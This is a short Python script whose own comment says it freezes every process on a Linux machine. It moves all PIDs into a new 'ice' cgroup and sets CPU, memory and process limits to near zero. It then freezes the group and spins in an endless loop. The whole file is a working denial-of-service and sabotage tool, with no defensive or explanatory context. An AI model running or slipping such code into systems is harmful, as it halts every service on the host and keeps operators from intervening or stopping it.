#!/usr/bin/python3 -IS
# Moves every process that it sees into a group of its own and freezes it, so that no signal arrives.
import glob, os
for top in ["/sys/fs/cgroup"] + glob.glob("/sys/fs/cgroup/*/") + glob.glob("/groups*/*/"):
    group = os.path.join(top, "ice")
    try:
        os.mkdir(group)
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    open(group + "/cgroup.procs", "w").write(pid)
                except OSError:
                    pass
        for file, value in (("cpu.cfs_quota_us", "1000"), ("cpu.max", "1000 1000000"), ("memory.max", "1"),
                            ("pids.max", "0"), ("cgroup.freeze", "1"), ("freezer.state", "FROZEN")):
            try:
                open(f"{group}/{file}", "w").write(value)
            except OSError:
                pass
    except OSError:
        pass
while True:
    pass
